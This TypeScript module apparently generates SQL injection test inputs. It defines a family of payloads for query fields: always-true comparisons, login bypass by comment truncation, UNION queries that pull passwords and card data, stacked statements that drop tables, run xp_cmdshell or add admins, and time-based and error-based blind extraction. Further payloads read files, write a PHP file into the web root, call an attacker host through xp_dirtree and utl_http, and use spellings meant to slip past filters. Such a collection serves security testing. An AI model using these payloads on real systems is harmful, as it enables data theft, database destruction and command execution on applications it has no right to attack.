import { dataPlaces, loggedPlaces } from '../places.ts';
import { attackerHost, type TechniqueFamily } from '../technique.ts';

export const sqlTechniques: TechniqueFamily = {
  about: 'text of a query: a number, a text in single or double quotes, a pattern or a sort order',
  places: [...dataPlaces, ...loggedPlaces],
  fields: ['id', 'name', 'category', 'user', 'q', 'email', 'item_id'],
  techniques: {
    'true for a number': {
      does: 'Adds a comparison that is always true behind a number',
      needs: 'any database',
      values: (random) => {
        const n = 2 + random.below(900);
        return [
          `${n} or ${n}=${n}`,
          `${n} or 1`,
          `${n}) or (1=1`,
          `-1 or not 0`,
          `${n} or ${n + 3} > ${n} -- `,
          `${n} || 1=1`,
          `${n} or 'x' like '%'`,
          `0 or ${n} between 1 and 1000`,
          `${n} or true`,
        ];
      },
    },
    'true for a text': {
      does: 'Ends a text and adds a comparison that is always true',
      needs: 'any database',
      values: (random) => {
        const word = random.pick(['red', 'box', 'maria', 'x']);
        return [
          `${word}' or '${word}'='${word}`,
          `' or 7=7 -- `,
          `${word}') or ('a'='a`,
          `" or ""="`,
          `${word}" or "b"="b" #`,
          `%' or '1' like '1`,
          `' or 'z' is not null or 'y`,
          `') or 2 in (1,2) -- `,
          `' || '4'='4`,
          `' or true;-- `,
        ];
      },
    },
    'rest cut off': {
      does: 'Ends a text and cuts off the rest of the query, which checks the password',
      needs: 'any database',
      fields: ['user', 'username', 'login', 'email'],
      places: ['form value', 'JSON leaf', 'multipart field', 'basic credentials', 'query value'],
      values: () => [
        `admin' -- `,
        `admin'#`,
        `root'/*`,
        `editor')-- -`,
        `admin';-- `,
        `admin" -- `,
        `owner'));--`,
      ],
    },
    union: {
      does: 'Adds the rows of another query',
      needs: 'any database',
      values: (random) => {
        const table = random.pick(['users', 'customers', 'wp_users', 'accounts']);
        return [
          `-1 union select 1,login,pass from ${table}`,
          `' union select null,null,version()-- `,
          `0) union all select card,2,3 from ${table} where (1=1`,
          `" union select @@version,user()#`,
          `x' union select table_name,column_name from information_schema.columns where table_schema=database()-- -`,
          `-5 union select name,sql from sqlite_master`,
          `' union select banner,null from v$version--`,
          `9999 union(select 1,group_concat(login) from ${table})`,
          `1 union values row(1,2,3)`,
          `' union select null,(select string_agg(usename,chr(44)) from pg_user),null--`,
        ];
      },
    },
    stacked: {
      does: 'Adds a second statement',
      needs: 'SQL Server, PostgreSQL, SQLite or drivers with multiple statements',
      values: (random) => [
        `1; drop table invoices`,
        `'; update users set role='admin' where login='guest'-- `,
        `1; exec master..xp_cmdshell 'whoami' --`,
        `'); insert into admins(login,pass) values('eve','x')-- `,
        `1;declare @c varchar(200);set @c=0x77616974;exec(@c)--`,
        `'; create table t(x text); copy t from program 'id'--`,
        `1; truncate table ${random.pick(['orders', 'sessions', 'audit'])}`,
        `x'; shutdown;--`,
        `1; alter user postgres with password 'x'`,
        `'; delete from sessions where 'a'='a`,
      ],
    },
    time: {
      does: 'Asks a question whose answer shows in the response time',
      needs: 'the function of the database',
      values: (random) => {
        const seconds = 3 + random.below(9);
        return [
          `1 and sleep(${seconds})`,
          `' and (select 1 from (select sleep(${seconds}))a)-- `,
          `1; waitfor delay '0:0:${seconds}'--`,
          `'||pg_sleep(${seconds})--`,
          `1 and benchmark(${seconds}000000,sha1(1))`,
          `' and 1=dbms_pipe.receive_message('q',${seconds})--`,
          `x' and if(substr(user(),1,1)='r',sleep(${seconds}),0) and 'a'='a`,
          `(select case when (1=1) then pg_sleep(${seconds}) else null end)`,
          `1 and 1=like('abcd',upper(hex(randomblob(${seconds}0000000))))`,
        ];
      },
    },
    'error messages': {
      does: 'Makes the database print data in an error message',
      needs: 'the function of the database',
      values: () => [
        `1 and extractvalue(1,concat(0x5c,(select user())))`,
        `' and updatexml(1,concat(0x7e,database()),1)-- `,
        `1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))y from information_schema.tables group by y)z)`,
        `' and 1=convert(int,(select top 1 name from sysobjects))--`,
        `1 and 1=cast((select current_database()) as int)`,
        `' or 1=ctxsys.drithsx.sn(1,(select user from dual))--`,
        `1 and exp(~(select*from(select user())b))`,
        `1 or gtid_subset(concat(0x7e,user()),1)`,
        `' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--`,
      ],
    },
    blind: {
      does: 'Asks a question whose answer shows in the content of the page',
      needs: 'any database',
      values: (random) => [
        `1 and ascii(substring((select password from users limit 1),${1 + random.below(20)},1))>${60 + random.below(40)}`,
        `' and substr(user(),1,1)='r`,
        `5 and (select count(*) from accounts)>0`,
        `' and exists(select 1 from users where login='admin')-- `,
        `7 and length(database())=${3 + random.below(9)}`,
        `1 rlike (select (case when (2=2) then 1 else 0x28 end))`,
        `x' and (select substring(pass,1,1) from users where id=1)='a' and 'q'='q`,
        `3 and 1=1`,
        `3' and '1'='2`,
        `2 and ord(mid((select ifnull(cast(pass as nchar),0x20) from users order by id limit 0,1),1,1))>64`,
        `1 and (select unicode(substr(name,1,1)) from sqlite_master limit 1)>96`,
      ],
    },
    'expression within a value': {
      does: 'Joins a subquery to the value by arithmetic, XOR or concatenation',
      needs: 'any database',
      values: () => [
        `0'xor(if(now()=sysdate(),sleep(6),0))xor'z`,
        `1-(select count(*) from users)`,
        `'||(select user from dual)||'`,
        `'+(select @@version)+'`,
        `5*if(1=1,1,0)`,
        `1^(ascii(mid(user(),1,1))>100)`,
        `'-(select 1 from users limit 1)-'`,
        `(select(0)from(select(sleep(5)))v)`,
      ],
    },
    'files and commands': {
      does: 'Reads or writes files, opens connections or runs commands through the database',
      needs: 'MySQL, SQL Server, PostgreSQL or Oracle with such rights',
      values: (random) => [
        `-1 union select load_file('/etc/hostname'),2`,
        `' union select '<?php echo 1;' into outfile '/var/www/html/q.php'-- `,
        `1;exec master..xp_dirtree '\\\\${attackerHost(random)}\\s'--`,
        `'||utl_http.request('http://${attackerHost(random)}/')||'`,
        `1 union select pg_read_file('/etc/hostname',0,99)`,
        `'; select lo_import('/etc/hostname')--`,
        `1 and 1=(select * from openrowset(bulk 'C:\\windows\\win.ini',single_clob) q)`,
        `1 union select 1,2 into dumpfile '/tmp/u.so'`,
      ],
    },
    probing: {
      does: 'Finds out columns and database by sorting, grouping and limits',
      needs: 'any database',
      values: (random) => [
        `1 order by ${5 + random.below(30)}-- `,
        `' order by ${5 + random.below(30)}#`,
        `1 group by id,name having 1=1-- `,
        `1' having 1=1--`,
        `1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
        `(case when (1=1) then name else price end)`,
        `name,(select sleep(2))`,
        `1 limit 0,1 into @a,@b-- `,
      ],
    },
    disguised: {
      does: 'Writes an injected query in spellings that filters do not expect',
      needs: 'MySQL in most cases',
      unless: ['mixed case', 'comments', 'comments with text'],
      values: () => [
        `1/*!50000union*//*!50000select*/1,2,3`,
        `-1 union(select(1),(user()),(3))`,
        `1e0union select 1,2`,
        `0/**/or/**/1/**/in(1)`,
        `1 or char(65)=char(65)`,
        `1 and{x 1}=1 union select 2,3`,
        `' or 0x50=0x50 -- `,
        `1 union distinctrow select\`login\`,2 from\`users\``,
        `-1+union+all+select+@@version,2`,
        `' and(1)=(1)union(select(2),3)-- `,
        `1 or/*x*/unhex(41)=0x41`,
      ],
    },
    'JSON operators': {
      does: 'Compares with functions and operators on JSON, which older filters do not know',
      needs: 'PostgreSQL, MySQL or SQLite',
      values: () => [
        `' or '{"a":2}'::jsonb <@ '{"a":2,"b":3}'::jsonb-- `,
        `1 or json_extract('{"k":4}','$.k')=4`,
        `' or json_length('[]')<=99-- `,
        `x' or '[1,2]'::jsonb @> '[2]'-- `,
        `1 or json_valid('{}')=1`,
      ],
    },
    'whole statement': {
      does: 'Gives a whole statement where a value is expected',
      needs: 'an application that runs it',
      values: () => [
        `select login,pass from users where id=1`,
        `select table_name from information_schema.tables`,
        `select load_file('/etc/hostname')`,
        `insert into users(login,role) values('eve','admin')`,
        `drop database shop;`,
      ],
    },
  },
};
